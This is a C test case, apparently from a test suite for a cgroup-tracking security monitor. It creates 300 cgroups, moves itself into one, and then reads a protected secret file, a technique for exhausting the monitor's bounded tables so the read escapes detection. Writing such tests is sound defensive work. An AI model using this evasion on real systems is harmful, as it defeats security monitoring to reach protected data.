// tries: to overflow the tool's table of cgroups, and act then
// works: tables are bounded, and what does not fit may be let
// see: cgroups(7); eBPF map limits in other tools
// goal: read
// user: root
// alone: it takes the machine's time
// undo: rmdir $OTHER_CGROUP/many*/ $OTHER_CGROUP/many*
#include "../kit.h"

int main(void)
{
	char path[300];
	int made = 0;

	for (int i = 0; i < 300; i++) {
		snprintf(path, sizeof(path), "%s/many%d", env("OTHER_CGROUP"), i);
		made += !mkdir(path, 0755);
	}
	if (made) {
		snprintf(path, sizeof(path), "%s/many0/cgroup.procs", env("OTHER_CGROUP"));
		write_text(path, "0");
	}
	return print_file(env("SECRET"));
}
